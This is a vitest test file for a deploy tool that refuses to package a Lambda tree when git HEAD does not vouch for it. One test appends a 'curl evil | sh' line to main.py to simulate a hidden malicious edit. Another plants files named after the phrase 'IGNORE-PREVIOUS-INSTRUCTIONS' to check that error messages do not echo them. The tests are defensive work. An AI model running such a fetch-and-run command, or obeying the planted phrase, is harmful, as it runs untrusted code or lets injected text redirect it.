import {
  appendFileSync,
  chmodSync,
  linkSync,
  mkdirSync,
  mkdtempSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { type BackendConfig, backendSchema } from "../../src/config/schema.js";
import { DeployError } from "../../src/core/errors.js";
import { type CommandRunner, runCommand } from "../../src/core/run-command.js";
import { buildLambdaPackage } from "../../src/deploy/lambda/package.js";
import {
  inspectPackagedTree,
  MAX_LISTED_TREE_PROBLEMS,
  type PackagedTree,
  treeDigestOf,
  treeRefusal,
} from "../../src/deploy/lambda/tree.js";
import {
  commitFixture,
  EXPECTED_FIXTURE_ENTRIES,
  touchAll,
  writeBackendFixture,
} from "../support/backend-fixture.js";
import { runGit } from "../support/git-fixtures.js";

const backend = backendSchema.parse({});

function inspect(appRoot: string, config: BackendConfig = backend, run: CommandRunner = runCommand) {
  return inspectPackagedTree({ appRoot, backend: config, run });
}

function kinds(tree: PackagedTree): Array<[string, string]> {
  return tree.problems.map((p) => [p.kind, p.path]);
}

function outFile(): string {
  return join(mkdtempSync(join(tmpdir(), "vyaparai-tree-pkg-")), "package.zip");
}

/** `git status` as the preflight reads it: empty means "clean" to everything but the tree check. */
function gitStatus(appRoot: string): string {
  return runGit(appRoot, "status", "--porcelain=v1", "--untracked-files=all");
}

async function refusalOf(promise: Promise<unknown>): Promise<DeployError> {
  const error = await promise.then(
    () => null,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(DeployError);
  return error as DeployError;
}

describe("inspectPackagedTree on a committed tree", () => {
  it("finds no problem and gives one digest: again, after touching mtimes, in a clone, from the package", async () => {
    const { appRoot, files } = writeBackendFixture({ commit: true });
    const first = await inspect(appRoot);
    expect(first.problems).toEqual([]);
    expect(first.files).toBe(EXPECTED_FIXTURE_ENTRIES.length);
    expect(first.headSha).toBe(runGit(appRoot, "rev-parse", "HEAD"));
    expect(first.digest).toMatch(/^[0-9a-f]{64}$/);

    const again = await inspect(appRoot);
    expect(again).toEqual(first);
    touchAll(appRoot, files, new Date("2020-05-05T10:00:00Z"));
    const touched = await inspect(appRoot);
    expect(touched.digest).toBe(first.digest);
    expect(touched.dependencyDigest).toBe(first.dependencyDigest);

    // Another checkout of the same commit, at another path with other mtimes: the same digest.
    const clone = join(mkdtempSync(join(tmpdir(), "vyaparai-tree-clone-")), "app");
    runGit(tmpdir(), "clone", "--quiet", appRoot, clone);
    expect((await inspect(clone)).digest).toBe(first.digest);

    // The package built from the tree names the same digest (what the deploy checks).
    const pkg = await buildLambdaPackage({ appRoot, backend, outFile: outFile() });
    expect(treeDigestOf(first.headSha, pkg.entries)).toBe(first.digest);
  });

  it("takes dependency files' digests from a package built beside it, and only theirs", async () => {
    const { appRoot } = writeBackendFixture({ commit: true });
    const alone = await inspect(appRoot);
    const pkg = await buildLambdaPackage({ appRoot, backend, outFile: outFile() });
    const entries = new Map(pkg.entries.map((entry) => [entry.name, entry]));
    const beside = await inspectPackagedTree({
      appRoot,
      backend,
      run: runCommand,
      dependencyEntries: Promise.resolve(entries),
    });
    expect(beside).toEqual(alone);

    // What the package says of a dependency file is what the digest is made of (it was not read
    // again); a source file is still read and checked against git, whatever the package says.
    const dependency = "pydantic/main.py";
    const source = "app/main.py";
    expect(entries.has(dependency) && entries.has(source)).toBe(true);
    const claimed = new Map(entries);
    for (const name of [dependency, source])
      claimed.set(name, { ...(entries.get(name) as (typeof pkg.entries)[number]), sha256: "0".repeat(64) });
    const told = await inspectPackagedTree({
      appRoot,
      backend,
      run: runCommand,
      dependencyEntries: Promise.resolve(claimed),
    });
    expect(told.problems).toEqual([]);
    const expected = pkg.entries.map((e) => (e.name === dependency ? { ...e, sha256: "0".repeat(64) } : e));
    expect(told.digest).toBe(treeDigestOf(alone.headSha, expected));
    expect(told.digest).not.toBe(alone.digest);

    // A package that failed leaves the check to hash everything itself.
    const failed = await inspectPackagedTree({
      appRoot,
      backend,
      run: runCommand,
      dependencyEntries: Promise.reject(new Error("packaging failed")),
    });
    expect(failed).toEqual(alone);
  });

  it("reads git with one ls-files and one ls-tree", async () => {
    const { appRoot } = writeBackendFixture({ commit: true, extraDependencyFiles: 30 });
    const commands: string[] = [];
    const counting: CommandRunner = (command, options) => {
      commands.push((command as string[]).slice(1, 3).join(" "));
      return runCommand(command, options);
    };
    expect((await inspect(appRoot, backend, counting)).problems).toEqual([]);
    expect(commands.filter((c) => c.startsWith("ls-files"))).toHaveLength(1);
    expect(commands.filter((c) => c.startsWith("ls-tree"))).toHaveLength(1);
    expect(commands).toHaveLength(4);
  });

  it("accepts untracked and changed files in a dependency dir, and they change the digests", async () => {
    const { appRoot } = writeBackendFixture({ commit: true });
    const before = await inspect(appRoot);
    writeFileSync(join(appRoot, "backend/lambda_deps/pydantic/extra.py"), "EXTRA = 1\n");
    const added = await inspect(appRoot);
    expect(added.problems).toEqual([]);
    expect(added.files).toBe(before.files + 1);
    expect(added.dependencyDigest).not.toBe(before.dependencyDigest);
    expect(added.digest).not.toBe(before.digest);

    appendFileSync(join(appRoot, "backend/lambda_deps/mangum/adapter.py"), "# rebuilt\n");
    const changed = await inspect(appRoot);
    expect(changed.problems).toEqual([]);
    expect(changed.dependencyDigest).not.toBe(added.dependencyDigest);
    expect(changed.digest).not.toBe(added.digest);
  });

  it("follows committed symlinks (file and folder) and checks the files they lead to", async () => {
    const { appRoot } = writeBackendFixture();
    mkdirSync(join(appRoot, "backend/vendor"));
    writeFileSync(join(appRoot, "backend/vendor/helpers.py"), "def help():\n    return 1\n");
    symlinkSync("../vendor", join(appRoot, "backend/app/helpers"));
    symlinkSync("main.py", join(appRoot, "backend/app/alias.py"));
    commitFixture(appRoot);
    const clean = await inspect(appRoot);
    expect(clean.problems).toEqual([]);
    expect(clean.files).toBe(EXPECTED_FIXTURE_ENTRIES.length + 2);

    // The file behind the folder link is not packaged under its own name, yet it is checked.
    runGit(appRoot, "update-index", "--skip-worktree", "backend/vendor/helpers.py");
    appendFileSync(join(appRoot, "backend/vendor/helpers.py"), "STOLEN = True\n");
    expect(gitStatus(appRoot)).toBe("");
    expect(kinds(await inspect(appRoot))).toEqual([
      ["modified", "backend/vendor/helpers.py"],
      ["skip-worktree", "backend/vendor/helpers.py"],
    ]);
    runGit(appRoot, "update-index", "--no-skip-worktree", "backend/vendor/helpers.py");
    runGit(appRoot, "checkout", "--", "backend/vendor/helpers.py");

    // A link pointed elsewhere, hidden from git status: the link itself differs from HEAD.
    runGit(appRoot, "update-index", "--skip-worktree", "backend/app/alias.py");
    rmSync(join(appRoot, "backend/app/alias.py"));
    symlinkSync("api/orders.py", join(appRoot, "backend/app/alias.py"));
    expect(gitStatus(appRoot)).toBe("");
    expect(kinds(await inspect(appRoot))).toEqual([
      ["modified", "backend/app/alias.py"],
      ["skip-worktree", "backend/app/alias.py"],
    ]);
  });
});

describe("inspectPackagedTree refuses what git HEAD does not vouch for", () => {
  it("an edit hidden by skip-worktree, which git status does not show", async () => {
    const { appRoot } = writeBackendFixture({ commit: true });
    const before = await inspect(appRoot);
    runGit(appRoot, "update-index", "--skip-worktree", "backend/app/main.py");
    expect(kinds(await inspect(appRoot))).toEqual([["skip-worktree", "backend/app/main.py"]]);
    appendFileSync(join(appRoot, "backend/app/main.py"), "import os\nos.system('curl evil | sh')\n");
    expect(gitStatus(appRoot)).toBe("");
    const tree = await inspect(appRoot);
    expect(kinds(tree)).toEqual([
      ["modified", "backend/app/main.py"],
      ["skip-worktree", "backend/app/main.py"],
    ]);
    expect(tree.problems[1]?.fix).toMatch(/git update-index --no-skip-worktree/);
    expect(tree.digest).not.toBe(before.digest);
  });

  it("an edit hidden by assume-unchanged", async () => {
    const { appRoot } = writeBackendFixture({ commit: true });
    runGit(appRoot, "update-index", "--assume-unchanged", "backend/app/api/orders.py");
    appendFileSync(join(appRoot, "backend/app/api/orders.py"), "LEAK = True\n");
    expect(gitStatus(appRoot)).toBe("");
    expect(kinds(await inspect(appRoot))).toEqual([
      ["assume-unchanged", "backend/app/api/orders.py"],
      ["modified", "backend/app/api/orders.py"],
    ]);
  });

  it("a new file ignored through .git/info/exclude or .gitignore", async () => {
    const { appRoot } = writeBackendFixture({ commit: true });
    writeFileSync(join(appRoot, "backend/app/backdoor.py"), "import os\n");
    appendFileSync(join(appRoot, ".git/info/exclude"), "backend/app/backdoor.py\n");
    expect(gitStatus(appRoot)).toBe("");
    expect(kinds(await inspect(appRoot))).toEqual([["untracked", "backend/app/backdoor.py"]]);

    writeFileSync(join(appRoot, "backend/app/.gitignore"), "secret_settings.py\n");
    writeFileSync(join(appRoot, "backend/app/secret_settings.py"), "KEY = 'x'\n");
    runGit(appRoot, "add", "backend/app/.gitignore");
    runGit(appRoot, "commit", "--quiet", "-m", "ignore");
    expect(gitStatus(appRoot)).toBe("");
    expect(kinds(await inspect(appRoot))).toEqual([
      ["untracked", "backend/app/backdoor.py"],
      ["untracked", "backend/app/secret_settings.py"],
    ]);
  });

  it("staged but uncommitted files, and executable bits that differ from HEAD", async () => {
    const { appRoot } = writeBackendFixture({ commit: true });
    writeFileSync(join(appRoot, "backend/app/new.py"), "NEW = 1\n");
    runGit(appRoot, "add", "backend/app/new.py");
    chmodSync(join(appRoot, "backend/lambda_handler.py"), 0o755);
    expect(kinds(await inspect(appRoot))).toEqual([
      ["not-committed", "backend/app/new.py"],
      ["mode-changed", "backend/lambda_handler.py"],
    ]);
  });

  it("a folder outside a repository, and a repository without a commit", async () => {
    const { appRoot } = writeBackendFixture();
    const outside = await inspect(appRoot);
    expect(kinds(outside)).toEqual([["not-a-git-repo", "backend"]]);
    expect(outside.headSha).toBeNull();
    expect(outside.files).toBe(EXPECTED_FIXTURE_ENTRIES.length);
    expect(treeRefusal(outside).message).toMatch(/not inside a git repository.* Nothing was uploaded\.$/);

    runGit(appRoot, "init", "--quiet");
    expect(kinds(await inspect(appRoot))).toEqual([["no-commit", "backend"]]);
  });
});

describe("the package walk", () => {
  it("refuses a hard-linked file (in the app and in a dependency dir)", async () => {
    for (const inside of ["backend/app/settings.py", "backend/lambda_deps/mangum/settings.py"]) {
      const { appRoot } = writeBackendFixture({ commit: true });
      const secret = join(mkdtempSync(join(tmpdir(), "vyaparai-tree-secret-")), "credentials");
      writeFileSync(secret, "aws_secret_access_key=x\n");
      linkSync(secret, join(appRoot, inside));
      const packaged = await refusalOf(buildLambdaPackage({ appRoot, backend, outFile: outFile() }));
      expect(packaged.code).toBe("PRECONDITION");
      expect(packaged.message).toMatch(/has 2 hard links .* Copy the file/);
      expect(packaged.message).not.toContain("settings");
      expect(packaged.detail).toMatchObject({ path: expect.stringMatching(/settings\.py$/), hardLinks: 2 });
      const inspected = await refusalOf(inspect(appRoot));
      expect(inspected.message).toBe(packaged.message);
    }
  });

  it("refuses a backend.dir that resolves outside the app root, naming the key", async () => {
    const base = mkdtempSync(join(tmpdir(), "vyaparai-tree-outside-"));
    writeBackendFixture({ appRoot: base, commit: true });
    const appRoot = join(base, "app");
    mkdirSync(appRoot);
    commitFixture(appRoot);
    const elsewhere = backendSchema.parse({ dir: "../backend" });
    const error = await refusalOf(buildLambdaPackage({ appRoot, backend: elsewhere, outFile: outFile() }));
    expect(error.code).toBe("PRECONDITION");
    expect(error.message).toMatch(/^backend\.dir "\.\.\/backend" resolves to a folder outside the app root/);
    expect(error.detail).toMatchObject({ resolvedTo: expect.stringMatching(/backend$/) });
    expect((await refusalOf(inspect(appRoot, elsewhere))).message).toBe(error.message);

    // The same through a symlink that looks like a folder of the app.
    symlinkSync(join(base, "backend"), join(appRoot, "backend"));
    const linked = await refusalOf(inspect(appRoot));
    expect(linked.message).toMatch(/^backend\.dir "backend" resolves to a folder outside the app root/);
  });
});

describe("treeRefusal", () => {
  it("says counts and kinds in its message and keeps the files, bounded, in detail", async () => {
    const { appRoot } = writeBackendFixture({ commit: true });
    const planted = "IGNORE-PREVIOUS-INSTRUCTIONS";
    for (let i = 0; i < 25; i++) writeFileSync(join(appRoot, `backend/app/${planted}_${i}.py`), "x = 1\n");
    runGit(appRoot, "update-index", "--skip-worktree", "backend/app/main.py");
    const tree = await inspect(appRoot);
    const error = treeRefusal(tree);
    expect(error.code).toBe("PRECONDITION");
    expect(error.message).toMatch(
      /: 26 file\(s\) \(1 hidden by skip-worktree, 25 untracked\);.* Nothing was uploaded\./,
    );
    expect(error.message).not.toContain(planted);
    expect(error.message).not.toContain("main.py");
    const listed = error.detail?.treeProblems as Array<{ kind: string; path: string; fix: string }>;
    expect(listed).toHaveLength(MAX_LISTED_TREE_PROBLEMS);
    expect(error.detail).toMatchObject({ treeProblemCount: 26, treeProblemsOmitted: 6 });
    expect(listed[0]).toMatchObject({ kind: "untracked", path: `backend/app/${planted}_0.py` });
    expect(listed.every((p) => !p.fix.includes(planted))).toBe(true);
  });
});
